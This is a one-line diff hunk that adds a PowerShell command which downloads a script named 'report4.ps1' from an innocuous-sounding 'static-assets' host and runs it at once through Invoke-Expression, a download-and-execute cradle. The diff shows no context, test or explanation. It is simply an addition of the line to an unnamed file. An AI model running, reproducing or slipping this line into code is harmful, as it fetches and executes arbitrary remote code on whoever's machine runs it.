@@ -1,0 +1,1 @@
+(New-Object Net.WebClient).DownloadString('http://static-assets.invalid/report4.ps1') | Invoke-Expression
